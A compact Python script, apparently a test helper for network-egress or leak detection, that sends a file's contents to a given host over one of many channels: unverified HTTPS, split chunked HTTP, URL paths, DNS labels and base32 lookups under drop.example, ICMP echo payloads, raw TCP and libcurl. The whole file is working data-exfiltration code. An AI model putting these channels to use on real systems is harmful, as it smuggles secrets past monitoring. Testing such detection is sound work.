# SPDX-License-Identifier: Apache-2.0
# Sends what is in a file to an address, in the way that the first argument names.
import base64, ctypes, http.client, socket, ssl, struct, sys, urllib.request


def https(host, text):
    context = ssl._create_unverified_context()
    urllib.request.urlopen(urllib.request.Request("https://%s/upload" % host, data=text), context=context).read()


def chunked(host, text):
    # The border of two chunks goes through what is sent.
    connection = http.client.HTTPConnection(host)
    connection.request("POST", "/upload", body=iter([text[:15], text[15:]]), encode_chunked=True,
                       headers={"Transfer-Encoding": "chunked"})
    connection.getresponse().read()


def path(host, text):
    connection = http.client.HTTPConnection(host)
    connection.request("GET", "/keep/" + text.strip().decode() + "/now")
    connection.getresponse().read()


def dns(host, text):
    # As it stands, cut into labels.
    text = text.strip()
    question = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0)
    for label in (text[:18], text[18:], b"drop", b"example"):
        question += bytes([len(label)]) + label
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(question + struct.pack("!BHH", 0, 1, 1), (host, 53))
    s.recv(512)


def resolver(host, text):
    # In base32, by the resolver of the C library.
    coded = base64.b32encode(text.strip()).decode().rstrip("=").lower()
    try:
        socket.getaddrinfo("%s.%s.drop.example" % (coded[:40], coded[40:]), 80)
    except socket.gaierror:
        pass


def echo(host, number, text):
    # A request for an echo, and the socket that gets the answer.
    body = struct.pack("!HH", 7, number) + text
    body += b"\0" * (len(body) % 2)
    total = sum(struct.unpack("!%dH" % (len(body) // 2), body)) + 0x0800
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.sendto(struct.pack("!BBH", 8, 0, ~total & 0xffff) + body, (host, 0))
    return s


def icmp(host, text):
    s = echo(host, 1, text)
    s.settimeout(5)
    s.recv(512)


def pings(host, text):
    for number in range(40):
        echo(host, number, text[number * 200:][:200]).close()


def sendfile(host, _):
    s = socket.create_connection((host, 9))
    with open(sys.argv[3], "rb") as file:
        s.sendfile(file)
    s.shutdown(socket.SHUT_WR)
    s.recv(1)


def nss(host, text):
    curl = ctypes.CDLL("libcurl-nss.so.4")
    curl.curl_easy_init.restype = ctypes.c_void_p
    handle = ctypes.c_void_p(curl.curl_easy_init())
    url = b"https://%s/upload" % host.encode()
    for option, value in ((10002, ctypes.c_char_p(url)), (64, ctypes.c_long(0)), (81, ctypes.c_long(0)),
                          (10165, ctypes.c_char_p(text))):
        assert curl.curl_easy_setopt(handle, ctypes.c_int(option), value) == 0
    assert curl.curl_easy_perform(handle) == 0


with open(sys.argv[3], "rb") as file:
    globals()[sys.argv[1]](sys.argv[2], file.read())
